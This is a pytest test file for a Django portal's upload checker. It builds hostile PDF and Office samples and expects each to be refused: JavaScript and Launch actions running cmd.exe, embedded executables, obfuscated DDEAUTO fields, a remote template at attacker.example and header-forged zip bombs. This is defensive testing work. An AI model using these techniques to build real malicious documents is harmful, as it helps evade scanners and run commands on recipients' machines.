import binascii
import io
import random
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import AuditEvent
from filings.models import Evidence
from filings.scanning import EICAR
from filings.uploads import inspect_upload
from tests.factories import make_filing, plain_pdf


def office(main_part: str, extra: dict | None = None) -> bytes:
    """A minimal Office package; ``extra`` adds parts or replaces the main document."""
    parts = {
        "[Content_Types].xml": "<Types/>",
        f"{main_part}document.xml": "<doc/>",
        **(extra or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("規程.pdf", plain_pdf(), "application/pdf"),
        ("構成図.PNG", b"\x89PNG\r\n\x1a\n....", "image/png"),
        ("写真.jpeg", b"\xff\xd8\xff\xe0....", "image/jpeg"),
        (
            "台帳.xlsx",
            office("xl/"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "手順.docx",
            office("word/"),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("一覧.csv", "機器,台数\nGW,3\n".encode("cp932"), "text/csv"),
        ("メモ.txt", "ログ取得対象".encode(), "text/plain"),
    ],
)
def test_accepted_types_are_recognised_with_hash_and_size(name, content, content_type):
    inspected = inspect_upload(upload(name, content))
    assert inspected.content_type == content_type
    assert inspected.size == len(content)
    assert len(inspected.sha256) == 64
    assert inspected.name == name


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("偽物.pdf", b"MZ\x90\x00 this is an exe", "拡張子"),
        ("偽物.png", b"%PDF-1.4", "拡張子"),
        ("偽物.docx", b"PK\x03\x04 not really a zip", "DOCX"),
        ("表.xlsx", office("word/"), "XLSX"),
        ("macro.xlsx", office("xl/", {"xl/vbaProject.bin": b"\x00" * 64}), "マクロ"),
        ("macro.xlsm", b"PK\x03\x04", "受け付けられません"),
        ("archive.zip", b"PK\x03\x04", "受け付けられません"),
        ("binary.txt", b"\x00\x01\x02\x03", "テキスト"),
        ("C:\\Users\\x\\file.pdf", b"%PDF-1.4", "フォルダ"),
        ("bad\x07name.pdf", b"%PDF-1.4", "制御文字"),
    ],
)
def test_bad_files_are_refused_with_a_japanese_reason(name, content, message):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload(name, content))
    assert message in " ".join(error.value.messages)


def test_a_zip_bomb_disguised_as_xlsx_is_refused():
    bomb = office("xl/", {"xl/worksheets/huge.xml": b"0" * (20 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("bomb.xlsx", bomb))
    assert "展開" in " ".join(error.value.messages)


def test_an_oversize_file_is_refused(settings):
    settings.EVIDENCE_MAX_FILE_BYTES = 1024
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("big.pdf", b"%PDF-1.4" + b"0" * 2048))
    assert "大きすぎ" in " ".join(error.value.messages)


def test_unix_path_parts_never_reach_the_stored_name():
    # Django's upload handling keeps only the last path component; the portal checks the rest.
    assert inspect_upload(upload("../../etc/passwd.txt", b"root")).name == "passwd.txt"


# --- hostile PDFs ------------------------------------------------------------------------------
# Built here, byte by byte, so that each names exactly what it hides.
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"
ALERT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def pdf(catalog: bytes = b"", page: bytes = b"", extra: tuple = (), xref: bool = True) -> bytes:
    """A one-page PDF with a classic cross-reference table; ``extra`` objects are numbered from 4.
    Without ``xref`` it is damaged the way viewers repair silently and pypdf refuses to read."""
    bodies = [CATALOG % catalog, PAGES, PAGE % page, *extra]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not xref:
        return bytes(out) + b"%%EOF\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        start,
    )
    return bytes(out)


def pdf_object_stream(catalog: bytes, encoding: str = "flate", xref: bool = True) -> bytes:
    """PDF 1.5: catalog, pages and page inside a compressed object stream (invisible to a scan of
    the raw bytes), found through a cross-reference stream."""
    header, content = b"", b""
    for number, body in enumerate([CATALOG % catalog, PAGES, PAGE % b""], start=1):
        header += b"%d %d " % (number, len(content))
        content += body + b"\n"
    if encoding == "flate":
        data, method = zlib.compress(header + content), b"/FlateDecode"
    else:
        data, method = binascii.hexlify(header + content) + b">", b"/ASCIIHexDecode"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter %s /Length %d >>\nstream\n" % (
        len(header),
        method,
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    if not xref:
        return bytes(out) + b"%%EOF\n"
    xref_at = len(out)
    rows = b"\x00" + bytes(4) + b"\xff\xff"
    rows += b"".join(b"\x02" + (4).to_bytes(4) + index.to_bytes(2) for index in range(3))
    rows += b"\x01" + stream_at.to_bytes(4) + bytes(2) + b"\x01" + xref_at.to_bytes(4) + bytes(2)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        len(rows)
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def test_plain_pdfs_are_accepted_including_object_streams_and_images():
    # Stream data is not read as PDF syntax: image bytes such as "/JS " must not refuse a file.
    image = b"<< /Type /XObject /Subtype /Image /Length 8 >>\nstream\n\x00/JS /AA\nendstream"
    for content in (pdf(), pdf(extra=(image,)), pdf_object_stream(b""), pdf(xref=False)):
        assert inspect_upload(upload("規程.pdf", content)).content_type == "application/pdf"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("JavaScript", "JavaScript"),
        ("JS", "JavaScript"),
        ("OpenAction", "自動的に実行"),
        ("AA", "自動的に実行"),
        ("Launch", "プログラムを起動"),
        ("EmbeddedFile", "埋め込みファイル"),
        ("EmbeddedFiles", "埋め込みファイル"),
        ("EF", "埋め込みファイル"),
        ("FileAttachment", "埋め込みファイル"),
        ("RichMedia", "マルチメディア"),
        ("XFA", "XFA"),
    ],
)
def test_each_active_content_name_alone_refuses_a_pdf(name, reason):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("規程.pdf", pdf(b"/%s true" % name.encode())))
    assert reason in " ".join(error.value.messages)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(pdf(ALERT), "JavaScript", id="open-action-javascript"),
        pytest.param(
            pdf(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"),
            "JavaScript",
            id="names-tree-javascript",
        ),
        pytest.param(
            pdf(b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "JavaScript",
            id="hex-escaped-names",
        ),
        pytest.param(
            pdf(b"/Open#41ction << /S /Lau#6ech /F (cmd.exe) >>", xref=False),
            "プログラムを起動",
            id="hex-escaped-names-in-a-file-pypdf-cannot-read",
        ),
        pytest.param(
            pdf(b"/OpenAction 4 0 R", extra=(b"<< /S /GoTo /D [3 0 R /Fit] >>",)),
            "自動的に実行",
            id="open-action-of-any-kind",
        ),
        pytest.param(
            pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
            "自動的に実行",
            id="page-additional-action",
        ),
        pytest.param(
            pdf(
                page=b"/Annots [4 0 R]",
                extra=(
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
                    b" /A << /S /Launch /F (cmd.exe) >> >>",
                ),
            ),
            "プログラムを起動",
            id="launch-action-in-a-link",
        ),
        pytest.param(
            pdf(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                extra=(
                    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                ),
            ),
            "埋め込みファイル",
            id="embedded-file",
        ),
        pytest.param(
            pdf(
                page=b"/Annots [4 0 R]",
                extra=(
                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9]"
                    b" /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>",
                    b"<< /Length 2 >>\nstream\nMZ\nendstream",
                ),
            ),
            "埋め込みファイル",
            id="attachment-annotation-without-a-typed-stream",
        ),
        pytest.param(
            pdf(
                page=b"/Annots [4 0 R]",
                extra=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",),
            ),
            "マルチメディア",
            id="rich-media",
        ),
        pytest.param(pdf_object_stream(ALERT), "JavaScript", id="inside-a-flate-object-stream"),
        pytest.param(
            pdf_object_stream(ALERT, encoding="hex"),
            "JavaScript",
            id="inside-an-object-stream-only-pypdf-decodes",
        ),
        pytest.param(
            pdf_object_stream(ALERT, xref=False),
            "読み取れなかった",  # no trailer, no cross-reference: refused unread
            id="inside-an-object-stream-of-a-file-nobody-can-read",
        ),
        pytest.param(
            pdf_object_stream(b"", encoding="hex", xref=False),
            "読み取れなかった",
            id="an-object-stream-nobody-could-decode",
        ),
    ],
)
def test_pdfs_with_active_content_are_refused_with_the_reason(content, reason):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("規程.pdf", content))
    assert reason in " ".join(error.value.messages)


# --- hostile Office files ----------------------------------------------------------------------
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def word(body: str) -> str:
    return f'<w:document xmlns:w="{W_NS}"><w:body><w:p>{body}</w:p></w:body></w:document>'


def field(*instructions: str) -> str:
    """A complex field (begin, instruction runs, separate, result, end) as Word writes it."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def rels(kind: str, target: str, mode: str = "External") -> str:
    return (
        f'<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{REL_TYPE}{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def test_ordinary_office_files_with_fields_and_hyperlinks_are_accepted():
    docx = office(
        "word/",
        {
            "word/document.xml": word(field(" PAGE ") + '<w:fldSimple w:instr=" NUMPAGES "/>'),
            "word/_rels/document.xml.rels": rels("hyperlink", "https://www.meti.go.jp/"),
        },
    )
    assert inspect_upload(upload("手順.docx", docx)).size == len(docx)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        pytest.param(
            "手順.docx",
            office("word/", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
            "埋め込みオブジェクト",
            id="ole-object-in-docx",
        ),
        pytest.param(
            "台帳.xlsx",
            office("xl/", {"xl/embeddings/Microsoft_Word_Document.docx": b"PK\x03\x04"}),
            "埋め込みオブジェクト",
            id="embedded-package-in-xlsx",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/activeX/activeX1.bin": bytes(64)}),
            "埋め込みオブジェクト",
            id="activex-control",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/document.xml": word(field(DDE))}),
            "DDE",
            id="ddeauto-field",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/document.xml": word(field(" DD", "EAUTO c:\\\\x.exe"))}),
            "DDE",
            id="dde-field-split-across-runs",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/document.xml": word('<w:fldSimple w:instr=" DDE cmd x"/>')}),
            "DDE",
            id="dde-simple-field",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/document.xml": word(field("QUOTE 68 68 69 65 85 84 79"))}),
            "DDE",
            id="dde-spelt-with-quote-character-codes",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/header1.xml": word(field(DDE))}),
            "DDE",
            id="dde-field-in-a-header",
        ),
        pytest.param(
            "手順.docx",
            office(
                "word/",
                {
                    "word/document.xml": word(field(DDE)).replace(
                        W_NS, "http://purl.oclc.org/ooxml/wordprocessingml/main"
                    )
                },
            ),
            "DDE",
            id="dde-field-in-a-strict-ooxml-document",
        ),
        pytest.param(
            "台帳.xlsx",
            office(
                "xl/",
                {
                    "xl/externalLinks/externalLink1.xml": (
                        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                        '2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                    )
                },
            ),
            "DDE",
            id="dde-link-in-xlsx",
        ),
        pytest.param(
            "手順.docx",
            office(
                "word/",
                {
                    "word/_rels/settings.xml.rels": rels(
                        "attachedTemplate", "http://attacker.example/t.dotm"
                    )
                },
            ),
            "attachedTemplate",
            id="remote-template",
        ),
        pytest.param(
            "手順.docx",
            office(
                "word/",
                {"word/_rels/document.xml.rels": rels("oleObject", "file://attacker/x.bin")},
            ),
            "oleObject",
            id="external-ole-object",
        ),
        pytest.param(
            "台帳.xlsx",
            office(
                "xl/",
                {
                    "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                        "externalLinkPath", "\\\\attacker\\share\\book.xlsx"
                    )
                },
            ),
            "externalLinkPath",
            id="external-workbook-link",
        ),
        pytest.param(
            "手順.docx",
            office("word/", {"word/document.xml": "<w:document><unclosed>"}),
            "DOCX",
            id="malformed-xml",
        ),
    ],
)
def test_office_files_with_active_content_are_refused_with_the_reason(name, content, reason):
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload(name, content))
    assert reason in " ".join(error.value.messages)


def understate(archive: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size of ``member`` in its local header and central directory
    entry, leaving the compressed data (and its CRC) as they are."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as reader:
        local = reader.getinfo(member).header_offset
    data[local + 22 : local + 26] = struct.pack("<I", size)
    central = data.find(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(member)] != member.encode():
        central = data.find(b"PK\x01\x02", central + 1)
    data[central + 24 : central + 28] = struct.pack("<I", size)
    return bytes(data)


def test_a_zip_bomb_whose_headers_understate_its_size_is_refused_by_streaming():
    bomb = office("xl/", {"xl/worksheets/sheet1.xml": b"0" * (20 * 1024 * 1024)})
    lying = understate(bomb, "xl/worksheets/sheet1.xml", 1000)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:  # the headers now look harmless
        assert sum(entry.file_size for entry in archive.infolist()) < 2000
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("bomb.xlsx", lying))
    assert "展開" in " ".join(error.value.messages)


def test_the_total_expanded_size_is_capped(settings):
    settings.EVIDENCE_MAX_EXPANDED_BYTES = 50_000
    noise = random.Random(11).randbytes  # incompressible: the ratio check stays out of this
    modest = office("xl/", {f"xl/media/image{n}.png": noise(30_000) for n in (1, 2)})
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("台帳.xlsx", modest))
    assert "展開" in " ".join(error.value.messages)


def test_a_member_whose_header_size_differs_from_its_content_is_refused():
    honest = office("xl/", {"xl/worksheets/sheet1.xml": b"<sheet>" + b"<row/>" * 100 + b"</sheet>"})
    inspect_upload(upload("台帳.xlsx", honest))
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("台帳.xlsx", understate(honest, "xl/worksheets/sheet1.xml", 8)))
    assert "XLSX" in " ".join(error.value.messages)


def test_a_package_with_two_parts_of_the_same_name_is_refused():
    # Readers disagree on which of the two they open: malformed, whatever either one holds.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is asked to write
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", word(""))
        archive.writestr("word/document.xml", word(field(DDE)))
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("手順.docx", buffer.getvalue()))
    assert "DOCX" in " ".join(error.value.messages)


# --- through the upload form ---------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("方針.pdf", pdf(ALERT), "JavaScript"),
        ("手順.docx", office("word/", {"word/document.xml": word(field(DDE))}), "DDE"),
        ("メモ.txt", EICAR, "マルウェア検査で脅威"),
    ],
)
def test_a_refused_upload_shows_the_reason_and_saves_nothing(
    catalogue, staff, settings, name, content, reason
):
    settings.EVIDENCE_SCANNER = "filings.scanning.EicarTestScanner"
    filing = make_filing(staff)
    url = reverse("filings:evidence_list", args=[filing.pk])
    media = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    client = Client()
    client.force_login(staff)

    def stored_files() -> list[Path]:
        return [path for path in media.rglob("*") if path.is_file()]

    response = client.post(url, {"file": SimpleUploadedFile(name, content), "kind": "item"})
    assert response.status_code == 400
    assert reason in response.content.decode()
    assert not Evidence.objects.exists()
    assert not stored_files()
    assert not AuditEvent.objects.filter(action="evidence.upload").exists()
    # The same form with a harmless file stores exactly one file where the refused one would be.
    clean = client.post(url, {"file": SimpleUploadedFile("方針.pdf", pdf()), "kind": "item"})
    assert clean.status_code == 302
    assert Evidence.objects.count() == 1 and len(stored_files()) == 1


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda data, end: data.__setitem__(end + 18, 0xCE), id="directory-offset"),
        pytest.param(lambda data, end: data.__setitem__(52, 127), id="deflate-data"),
    ],
)
def test_a_damaged_office_file_is_refused_not_a_server_error(damage):
    # zipfile answers these with ValueError (a negative seek) and zlib.error, not BadZipFile.
    data = bytearray(office("word/"))
    damage(data, data.rfind(b"PK\x05\x06"))
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("手順.docx", bytes(data)))
    assert "DOCX" in " ".join(error.value.messages)


def test_a_password_protected_pdf_is_refused_and_a_permissions_only_one_is_read():
    from pypdf import PdfWriter

    def encrypted(user_password: str) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(595, 842)
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
        buffer = io.BytesIO()
        writer.write(buffer)
        return buffer.getvalue()

    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("規程.pdf", encrypted("secret")))
    assert "パスワード" in " ".join(error.value.messages)
    # Without a user password (permissions only) anyone can open it: decrypted and read.
    assert inspect_upload(upload("規程.pdf", encrypted(""))).content_type == "application/pdf"


def test_an_object_stream_that_expands_too_far_is_refused(settings):
    settings.EVIDENCE_MAX_EXPANDED_BYTES = 1000
    padded = pdf_object_stream(b"/Padding (%s)" % (b"0" * 5000))
    with pytest.raises(ValidationError) as error:
        inspect_upload(upload("規程.pdf", padded))
    assert "展開" in " ".join(error.value.messages)
